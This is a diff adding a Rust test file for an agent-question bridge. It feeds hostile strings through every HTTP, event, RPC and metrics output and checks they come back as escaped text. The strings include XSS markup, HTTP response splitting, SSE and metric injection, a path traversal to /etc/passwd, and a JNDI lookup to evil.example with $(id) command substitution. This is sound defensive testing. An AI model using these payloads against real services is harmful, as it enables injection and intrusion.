@@ -1,0 +1,87 @@
+//! What an agent says to do harm: on every way out it is a text in JSON, and comes back as it was.
+
+use askbridge::question::{Outcome, Question, Reason};
+use serde_json::{Value, json};
+
+use crate::{
+    bridge::{Bridge, question},
+    client::Reply,
+};
+
+/// Escapes for terminals, text that runs the other way, markup, what would end an event, a header or a metric.
+const HOSTILE: [&str; 10] = [
+    "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m",
+    "\u{202e}gnp.exe\u{2066}\u{2069}\u{200f}",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "\"}],\"status\":\"answered",
+    "one\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
+    "data: {}\n\nevent: question.resolved\ndata: {}\n\n",
+    "a\"} 1\naskbridge_bridges 99\n",
+    "\u{0}\u{8}\u{7f}\u{fffd}\u{feff}\u{2028}\u{2029}",
+    "../../etc/passwd?a=b#c%00",
+    "${jndi:ldap://evil.example}$(id)`id`",
+];
+
+fn hostile(text: &str) -> Question {
+    let option = json!({ "value": text, "label": text, "description": text, "preview": { "format": "html", "text": text } });
+    let field = json!({ "name": text, "label": text, "header": text, "help": text, "kind": "choices", "options": [option] });
+    let mut question = question(text, json!([field]));
+    question.message = text.to_owned();
+    question.session = Some(text.to_owned());
+    question
+}
+
+/// Returns every text in it.
+fn texts(json: &Value) -> Vec<&str> {
+    match json {
+        Value::String(text) => vec![text],
+        Value::Array(entries) => entries.iter().flat_map(texts).collect(),
+        Value::Object(members) => members.values().flat_map(texts).collect(),
+        _ => Vec::new(),
+    }
+}
+
+#[track_caller]
+fn is_json_with(reply: &Reply, status: u16, text: &str) {
+    let kind = if status < 400 { "application/json" } else { "application/problem+json" };
+    assert!(reply.status == status && reply.headers.contains(&format!("content-type: {kind}")), "{reply:?}");
+    assert!(reply.has("x-content-type-options: nosniff"), "{reply:?}");
+    assert!(reply.body.bytes().all(|byte| byte >= b' '), "{:?}", reply.body);
+    assert!(texts(&reply.json()).iter().any(|told| told.contains(text)), "{text:?} is not in {reply:?}");
+}
+
+#[tokio::test]
+async fn what_an_agent_says_is_a_text_on_every_way_out() {
+    let large = "x".repeat(askbridge::limits::TEXT);
+    for text in HOSTILE.into_iter().chain([&*large]) {
+        let bridge = Bridge::start().await;
+        let (mut events, mut opencode) =
+            (bridge.http.listen("/v1/events", &[]).await, bridge.http.listen("/event", &[]).await);
+        assert_eq!(events.next().await.event, "snapshot");
+        assert_eq!(opencode.next().await.data["type"], "server.connected");
+        bridge.ask(hostile(text)).await;
+        for path in ["/v1/questions", "/v1/questions/bridge-1", "/question"] {
+            is_json_with(&bridge.http.get(path).await, 200, text);
+        }
+        let list = json!({ "jsonrpc": "2.0", "id": 1, "method": "question_list", "params": {} }).to_string();
+        is_json_with(&bridge.http.post("/rpc", &list).await, 200, text);
+        let event = events.next().await;
+        assert_eq!((&*event.event, &event.data["prompt"]), ("question.requested", &json!(text)));
+        assert_eq!(opencode.next().await.data["properties"]["questions"][0]["header"], text);
+
+        let answer = json!({ "values": { text: ["none of these"] } }).to_string();
+        is_json_with(&bridge.http.post("/v1/questions/bridge-1/reply", &answer).await, 422, text);
+        let answer = json!({ "answers": [[text]] }).to_string();
+        bridge.http.post("/v1/questions/bridge-1/reply", &answer).await.is(204);
+        is_json_with(&bridge.http.post("/v1/questions/bridge-1/reject", "").await, 409, text);
+        let event = events.next().await;
+        assert_eq!((&*event.event, &event.data["response"]), ("question.resolved", &json!(text)));
+        assert_eq!(opencode.next().await.data["properties"]["answers"], json!([[text]]));
+        let metrics = bridge.http.get("/metrics").await.body;
+        assert!(
+            metrics.lines().any(|line| line == "askbridge_bridges 1") && !metrics.contains(text),
+            "{metrics}"
+        );
+        assert!(!bridge.settle(1, Outcome::Rejected(Reason::Withdrawn)).await);
+    }
+}
